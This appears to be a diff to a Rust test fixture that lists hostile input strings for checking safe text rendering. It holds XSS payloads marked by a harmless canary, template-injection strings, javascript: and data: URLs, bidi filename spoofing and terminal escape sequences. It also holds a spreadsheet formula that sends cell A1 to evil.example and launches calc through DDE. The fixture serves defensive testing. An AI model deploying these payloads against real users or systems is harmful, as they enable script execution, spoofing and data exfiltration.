@@ -15,40 +15,38 @@ pub struct Entry {
 }
 
 /// Every hostile text, by kind. Whatever is executed sets `window.__owned` and the title.
-pub const CORPUS: [Entry; 9] = [
-    entry("markup", MARKUP),
-    entry("javascript", "javascript:window.__owned=1//"),
-    entry("data", "data:text/html,<script>window.__owned=1</script>#"),
+pub const CORPUS: [Entry; 6] = [
+    entry("scripts", SCRIPTS),
+    entry("signs", SIGNS),
     // Ends whatever it stands in, then turns around what follows, and ends nothing of it.
     Entry {
         name: "bidi",
         text: "\u{2069}\u{2069}\u{202c}\u{202e}\u{2067}\u{202d}fdp.\u{202e}exe\u{2066}\u{202b}",
         behind: true,
     },
-    entry("unusual", UNUSUAL),
-    entry(
-        "controls",
-        "\u{1b}[31m\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}\u{8}\u{9b}1m\0\u{1}\u{1f}\u{7f}\u{80}\u{fffe}",
-    ),
+    entry("unbroken", UNBROKEN),
     entry("formula", "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")+cmd|' /C calc'!A0"),
     entry("tab-formula", "\t@SUM(1);\r\n-2+3,\"\n+4\u{2028}\u{2029}\u{85}"),
-    entry("unbroken", UNBROKEN),
 ];
 
-/// Out of text, attributes of either quote, elements that hold text, and what templates would read.
-const MARKUP: &str = concat!(
-    "<img src=x onerror=\"window.__owned=1;document.title='OWNED'\"><script>window.__owned=1</script>",
-    "<svg/onload=window.__owned=1>\"'`></title></style></textarea></script></bdi></td></table>",
+/// An address that is a program; then out of text, attributes of either quote, elements that hold text, and what
+/// templates would read.
+const SCRIPTS: &str = concat!(
+    "javascript:window.__owned=1//<img src=x onerror=\"window.__owned=1;document.title='OWNED'\">",
+    "<script>window.__owned=1</script><svg/onload=window.__owned=1>\"'`></title></style></textarea></script></bdi></td></table>",
     "<iframe srcdoc='<script>parent.__owned=1</script>'></iframe>",
     "<x onfocus=window.__owned=1 autofocus tabindex=0 style=position:fixed>",
     "{{constructor.constructor('window.__owned=1')()}}${window.__owned=1}&lt;b&gt;&#x202e;%3Cb%3E\\u003cb"
 );
 
-/// Right to left, nothing wide, half a character twice, joined and stacked signs.
-const UNUSUAL: &str = concat!(
-    "شركة المبيعات \u{200f}(עברית) a\u{200b}\u{200d}\u{2060}b\u{feff}\u{ad}c\u{34f}\u{115f}\u{3164}\u{e0061}\u{e007f}",
-    "\u{f0000}\u{f0000} 👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈🇩🇪e\u{301}Z\u{336}\u{321}\u{30d}\u{30e}",
-    "\u{304}\u{305}\u{33f}\u{311}\u{306}\u{310}\u{352}\u{357}\u{351}\u{307}\u{308}\u{30a}\u{342}\u{343}\u{30c}"
+/// An address that is a page; then what terminals obey, controls, right to left, nothing wide, half a character twice,
+/// joined and stacked signs.
+const SIGNS: &str = concat!(
+    "data:text/html,<script>window.__owned=1</script>#\u{1b}[31m\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}\u{8}\u{9b}1m",
+    "\0\u{1}\u{1f}\u{7f}\u{80}\u{fffe} شركة المبيعات \u{200f}(עברית) ",
+    "a\u{200b}\u{200d}\u{2060}b\u{feff}\u{ad}c\u{34f}\u{115f}\u{3164}\u{e0061}\u{e007f}\u{f0000}\u{f0000} ",
+    "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈🇩🇪e\u{301}Z\u{336}\u{321}\u{30d}\u{30e}\u{304}\u{305}\u{33f}\u{311}",
+    "\u{306}\u{310}\u{352}\u{357}\u{351}\u{307}\u{308}\u{30a}\u{342}\u{343}\u{30c}"
 );
 
 /// No place to break a line.
